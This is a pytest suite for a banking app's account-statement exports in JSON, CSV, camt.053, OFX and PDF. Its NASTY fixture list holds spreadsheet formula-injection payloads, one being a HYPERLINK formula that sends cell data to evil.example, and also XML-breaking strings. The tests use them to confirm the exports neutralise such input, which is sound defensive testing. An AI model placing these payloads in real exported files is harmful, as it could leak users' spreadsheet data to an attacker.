"""Each format says the same, in the words of its own standard."""

import csv
import re
from contextlib import closing
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO
from xml.etree import ElementTree

import msgspec
import pytest
from django.db import transaction
from pypdf import PdfReader
from pytest_django import Settings

from tests.factories import make_account, make_client, pay_in
from tests.statements.camt import list_faults, read_camt
from tests.statements.story import NOW, Story, day
from transfers.statements.files import RENDERERS, answer_with
from transfers.statements.periods import Period
from transfers.statements.selectors import Statement, get_statement
from transfers.statements.states import StatementFormat

pytestmark = pytest.mark.django_db

QUIET = Period(date(2026, 4, 1), date(2026, 4, 30))

NASTY = [
    '=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\uff1d1+1", "a;=1+1",
    "x|@y", 'a;"=1+1;', 'b|"" @y', '"quoted", and comma', "</Nm><Amt>&amp;&lt;]]>", "non\uffffcharacter\ufffe",
    "张伟", "שלום", "👩‍👩‍👧",
    "e\u0301" * 70, "x" * 140, "🏦" * 140,
]  # fmt: skip


def render(statement: Statement, form: StatementFormat) -> bytes:
    """Return the statement in a format."""
    out = BytesIO()
    RENDERERS[form].write(statement=statement, out=out)
    return out.getvalue()


@pytest.fixture
def lived(story: Story) -> Story:
    """The story with its month."""
    story.live()
    return story


@pytest.fixture(params=NASTY, ids=range(len(NASTY)))
def nasty(request: pytest.FixtureRequest, story: Story) -> str:
    """A text that Carla sends along with money, and that is her name as well."""
    text: str = request.param
    carla = make_account(client=make_client(name=f"{text[:130]} Carla"), balance=100, now=day(1))
    story.move(carla, story.alice, 100, at=day(2), text=text)
    return text


def test_the_server_gets_it_as_a_file_to_be_sent_at_the_readers_pace(lived: Story, march: Period) -> None:
    answer = answer_with(lived.state(march), form=StatementFormat.JSON)

    with closing(answer):
        assert answer.file_to_stream
        assert answer.file_to_stream.read() == render(lived.state(march), StatementFormat.JSON)
        assert answer.file_to_stream.fileno()


class TestJson:
    """JSON."""

    def test_says_everything(self, lived: Story, march: Period) -> None:
        data = msgspec.json.decode(render(lived.state(march), StatementFormat.JSON))["data"]

        entries = data.pop("entries")
        assert data == {
            "account": str(lived.alice.pk),
            "number": lived.alice.number,
            "holder": "Alice Almeida",
            "currency": "BRL",
            "from": "2026-03-01",
            "to": "2026-03-31",
            "made_at": "2026-05-01T12:00:00Z",
            "is_final": True,
            "opening_balance": "0.00",
            "total_credits": "1320.50",
            "total_debits": "375.75",
            "closing_balance": "944.75",
        }
        assert len(entries) == 6
        assert entries[1] == {
            "version": 2,
            "kind": "transfer",
            "booking_date": "2026-03-03",
            "value_date": "2026-03-03",
            "credit_debit_indicator": "debit",
            "amount": "300.50",
            "balance_after": "699.50",
            "counterparty": {"name": "Carla Costa", "number": lived.carla.number},
            "remittance_information": "Rent for March",
            "transfer": entries[1]["transfer"],
        }

    def test_carries_any_text(self, story: Story, nasty: str, march: Period) -> None:
        data = msgspec.json.decode(render(story.state(march), StatementFormat.JSON))["data"]

        assert data["entries"][0]["remittance_information"] == nasty

    def test_nothing_in_a_name_breaks_it(self, march: Period) -> None:
        account = make_account(client=make_client(name='null}} "Alice"'), now=day(1))
        statement = get_statement(account_id=account.pk, client_id=None, period=march, max_entries=1, now=NOW)

        assert msgspec.json.decode(render(statement, StatementFormat.JSON))["data"]["entries"] == []


class TestCsv:
    """CSV."""

    def test_is_a_table_between_two_balances(self, lived: Story, march: Period) -> None:
        rows = read_csv(render(lived.state(march), StatementFormat.CSV))

        assert [(row["kind"], row["amount"], row["balance_after"]) for row in rows] == [
            ("opening_balance", "", "0.00"),
            ("deposit", "1000.00", "1000.00"),
            ("transfer", "300.50", "699.50"),
            ("transfer", "20.00", "719.50"),
            ("withdrawal", "50.00", "669.50"),
            ("booking", "25.25", "644.25"),
            ("reversal", "300.50", "944.75"),
            ("closing_balance", "", "944.75"),
        ]
        assert rows[2]["counterparty_name"] == "Carla Costa"
        assert rows[2]["counterparty_number"] == lived.carla.number

    def test_begins_with_a_byte_order_mark_for_spreadsheets(self, lived: Story, march: Period) -> None:
        assert render(lived.state(march), StatementFormat.CSV).startswith(b"\xef\xbb\xbfkind,")

    def test_holds_no_formula(self, story: Story, nasty: str, march: Period) -> None:
        content = render(story.state(march), StatementFormat.CSV).decode("utf-8-sig")

        cells = [cell for row in csv.reader(StringIO(content)) for cell in row if not re.fullmatch(r"-?[0-9.]+", cell)]
        parts = [part for cell in cells for part in re.split("[;|\t]", cell)]
        assert len(list(csv.reader(StringIO(content)))) == 4
        assert not [part for part in parts if part.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]
        assert any(nasty == cell.replace("'", "") for cell in cells)

    @pytest.mark.parametrize("separator", [";", "|", "\t"])
    def test_holds_no_formula_for_a_program_that_splits_it_elsewhere(
        self, story: Story, nasty: str, march: Period, separator: str
    ) -> None:
        content = render(story.state(march), StatementFormat.CSV).decode("utf-8-sig")

        cells = [cell for row in csv.reader(StringIO(content), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]


class TestCamt053:
    """camt.053.001.08."""

    def test_keeps_to_the_schema(self, lived: Story, march: Period) -> None:
        assert list_faults(render(lived.state(march), StatementFormat.CAMT_053)) == []

    def test_keeps_to_the_schema_without_entries(self, lived: Story) -> None:
        assert list_faults(render(lived.state(QUIET), StatementFormat.CAMT_053)) == []

    def test_keeps_to_the_schema_whatever_people_write(self, story: Story, nasty: str, march: Period) -> None:
        content = render(story.state(march), StatementFormat.CAMT_053)

        assert list_faults(content) == []
        details = read_camt(content).ntry[0].ntry_dtls[0].tx_dtls[0]
        assert details.rmt_inf.ustrd == [re.sub("[\ufffe\uffff]", "\ufffd", nasty)]

    def test_says_what_the_statement_says(self, lived: Story, march: Period) -> None:
        content = read_camt(render(lived.state(march), StatementFormat.CAMT_053))

        assert [(b.tp.cd_or_prtry.cd, b.amt.value, b.cdt_dbt_ind.value, str(b.dt.dt)) for b in content.bal] == [
            ("OPBD", Decimal("0.00"), "CRDT", "2026-03-01"),
            ("CLBD", Decimal("944.75"), "CRDT", "2026-03-31"),
        ]
        assert [(e.amt.value, e.cdt_dbt_ind.value, e.rvsl_ind) for e in content.ntry] == [
            (Decimal("1000.00"), "CRDT", None),
            (Decimal("300.50"), "DBIT", None),
            (Decimal("20.00"), "CRDT", None),
            (Decimal("50.00"), "DBIT", None),
            (Decimal("25.25"), "DBIT", None),
            (Decimal("300.50"), "CRDT", True),
        ]
        assert (content.txs_summry.ttl_ntries.nb_of_ntries, content.txs_summry.ttl_dbt_ntries.sum) == (
            "6",
            Decimal("375.75"),
        )

    def test_puts_the_other_party_where_it_stood_also_in_a_reversal(self, lived: Story, march: Period) -> None:
        entries = read_camt(render(lived.state(march), StatementFormat.CAMT_053)).ntry

        parties = [entry.ntry_dtls[0].tx_dtls[0].rltd_pties for entry in entries]
        debtors = [party.dbtr and party.dbtr.pty.nm for party in parties]
        creditors = [party.cdtr and party.cdtr.pty.nm for party in parties]
        assert debtors == ["Cash", None, "Carla Costa", None, None, None]
        assert creditors == [None, "Carla Costa", None, "Cash", "Carla Costa", "Carla Costa"]

    def test_a_debt_is_a_debit_balance(self, march: Period) -> None:
        story = Story()
        account = make_account(overdraft_limit=100, now=day(1))
        story.move(account, story.carla, 60, at=day(2))

        statement = story.state(march, account_id=account.pk, client_id=None)
        closing = read_camt(render(statement, StatementFormat.CAMT_053)).bal[1]

        assert (closing.amt.value, closing.cdt_dbt_ind.value) == (Decimal("0.60"), "DBIT")

    @pytest.mark.parametrize(("currency", "shown"), [("JPY", "7"), ("KWD", "0.007"), ("CLF", "0.0007")])
    def test_knows_currencies_with_other_decimals(self, currency: str, shown: str, march: Period) -> None:
        account = make_account(currency=currency, now=day(1))
        pay_in(account_id=account.pk, currency=currency, amount=7, now=day(2))

        statement = get_statement(account_id=account.pk, client_id=None, period=march, max_entries=9, now=NOW)
        content = render(statement, StatementFormat.CAMT_053)

        assert list_faults(content) == []
        assert str(read_camt(content).bal[1].amt.value) == shown


class TestOfx:
    """OFX 2."""

    def test_has_the_aggregates_in_the_order_of_the_standard(self, lived: Story, march: Period) -> None:
        content = render(lived.state(march), StatementFormat.OFX)

        root = read_xml(content)
        assert re.match(rb'<\?xml [^>]*\?>\n<\?OFX OFXHEADER="200" VERSION="211" [^>]*\?>\n<OFX>', content)
        assert outline(root.find("SIGNONMSGSRSV1/SONRS")) == ["STATUS", "DTSERVER", "LANGUAGE", "FI"]
        assert outline(root.find("BANKMSGSRSV1/STMTTRNRS")) == ["TRNUID", "STATUS", "STMTRS"]
        assert outline(root.find(".//STMTRS")) == ["CURDEF", "BANKACCTFROM", "BANKTRANLIST", "LEDGERBAL"]
        assert outline(root.find(".//BANKACCTFROM")) == ["BANKID", "ACCTID", "ACCTTYPE"]
        assert outline(root.find(".//BANKTRANLIST"))[:2] == ["DTSTART", "DTEND"]
        assert outline(root.find(".//STMTTRN")) == [
            "TRNTYPE", "DTPOSTED", "DTAVAIL", "TRNAMT", "FITID", "NAME", "MEMO",
        ]  # fmt: skip

    def test_says_what_the_statement_says(self, lived: Story, march: Period) -> None:
        root = read_xml(render(lived.state(march), StatementFormat.OFX))

        facts = [[line.findtext(name) for name in ("TRNTYPE", "TRNAMT", "NAME")] for line in root.iter("STMTTRN")]
        assert facts == [
            ["DEP", "1000.00", "Cash"],
            ["XFER", "-300.50", "Carla Costa"],
            ["XFER", "20.00", "Carla Costa"],
            ["CASH", "-50.00", "Cash"],
            ["DEBIT", "-25.25", "Carla Costa"],
            ["CREDIT", "300.50", "Carla Costa"],
        ]
        assert root.findtext(".//LEDGERBAL/BALAMT") == "944.75"
        assert root.findtext(".//ACCTID") == lived.alice.number

    def test_each_entry_has_an_id_of_its_own_that_stays(self, lived: Story, march: Period) -> None:
        ids = [
            [line.text for line in read_xml(render(lived.state(period), StatementFormat.OFX)).iter("FITID")]
            for period in (march, Period(date(2026, 3, 10), date(2026, 3, 31)))
        ]

        assert len(set(ids[0])) == 6
        assert ids[1] == ids[0][2:]

    def test_an_entry_stays_on_its_day_in_every_zone(self, lived: Story, march: Period) -> None:
        content = render(lived.state(march), StatementFormat.OFX).decode()

        assert "<DTPOSTED>20260303120000</DTPOSTED>" in content

    def test_carries_any_text(self, story: Story, nasty: str, march: Period) -> None:
        root = read_xml(render(story.state(march), StatementFormat.OFX))

        assert root.findtext(".//MEMO") == re.sub("[\ufffe\uffff]", "\ufffd", nasty)
        assert all(len(name.text or "") <= 32 for name in root.iter("NAME"))

    def test_names_the_bank(self, lived: Story, march: Period, settings: Settings) -> None:
        settings.BANK_NAME, settings.BANK_CODE = "Bank & Sons", "260"

        root = read_xml(render(lived.state(march), StatementFormat.OFX))

        assert (root.findtext(".//ORG"), root.findtext(".//BANKID")) == ("Bank & Sons", "260")


class TestPdf:
    """PDF."""

    def test_shows_holder_period_balances_and_entries(self, lived: Story, march: Period) -> None:
        text = read_pdf(render(lived.state(march), StatementFormat.PDF))[0]

        for shown in (
            "Alice Almeida", lived.alice.number, "01 Mar 2026 to 31 Mar 2026", "944.75", "+1 320.50", "-375.75",
            "Transfer: Carla Costa", "Rent for March", "Deposit: Cash", "Page 1 of 1",
        ):  # fmt: skip
            assert shown in text, shown

    def test_says_so_where_nothing_was_booked(self, lived: Story) -> None:
        assert "Nothing was booked in this period." in read_pdf(render(lived.state(QUIET), StatementFormat.PDF))[0]

    def test_says_so_while_it_is_not_final(self, lived: Story, march: Period) -> None:
        assert "not final yet" in read_pdf(render(lived.state(march, now=day(26)), StatementFormat.PDF))[0]

    def test_numbers_its_pages_and_repeats_the_headings(self, story: Story, march: Period) -> None:
        for number in range(60):
            pay_in(account_id=story.alice.pk, amount=number + 1, now=day(2))

        pages = read_pdf(render(story.state(march), StatementFormat.PDF))

        assert len(pages) > 1
        for number, page in enumerate(pages, start=1):
            assert f"Page {number} of {len(pages)}" in page
            assert "Balance" in page
        assert sum(page.count("Deposit: Cash") for page in pages) == 60

    def test_survives_any_text(self, story: Story, nasty: str, march: Period) -> None:
        text = "".join(read_pdf(render(story.state(march), StatementFormat.PDF)))

        assert "Carla" in text
        assert "Page 1 of 1" in text


def test_a_fault_on_the_way_leaves_no_transaction_open(lived: Story, march: Period) -> None:
    entries = lived.state(march).read_entries()
    next(entries)

    with transaction.atomic():
        assert next(entries).amount == 300_50


def read_csv(content: bytes) -> list[dict[str, str]]:
    """Return the rows by column."""
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"), newline="")))


def read_pdf(content: bytes) -> list[str]:
    """Return the text of each page, with plain spaces between its pieces."""
    return [" ".join(page.extract_text().split()) for page in PdfReader(BytesIO(content)).pages]


def read_xml(content: bytes) -> ElementTree.Element:
    """Return the root of a document that we wrote ourselves."""
    return ElementTree.fromstring(content)  # noqa: S314


def outline(element: ElementTree.Element | None) -> list[str]:
    """Return the names of the children."""
    assert element is not None
    return [child.tag for child in element]
